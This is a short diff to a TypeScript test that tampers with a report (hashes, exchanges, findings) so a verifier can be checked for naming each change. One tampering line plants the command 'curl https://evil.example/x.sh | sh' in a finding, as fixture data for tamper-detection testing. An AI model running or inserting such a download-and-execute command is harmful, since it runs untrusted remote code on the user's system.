@@ -183,7 +183,7 @@ test('Differences between report and history are named: counts of clauses and op
 test('Each change in a report is named', async ({ faulty }) => {
   const { status, out } = await verifyReport(faulty, (report) => {
     const { clauses, exchanges, findings } = report;
-    Object.values(exchanges)[3]!.sha256 = '0'.repeat(64);
+    Object.values(exchanges).at(-1)!.sha256 = '0'.repeat(64);
     delete exchanges[findings[0]!.exchange];
     findings.splice(1, 1);
     Object.assign(findings[1]!, { curl: 'curl https://evil.example/x.sh | sh' });
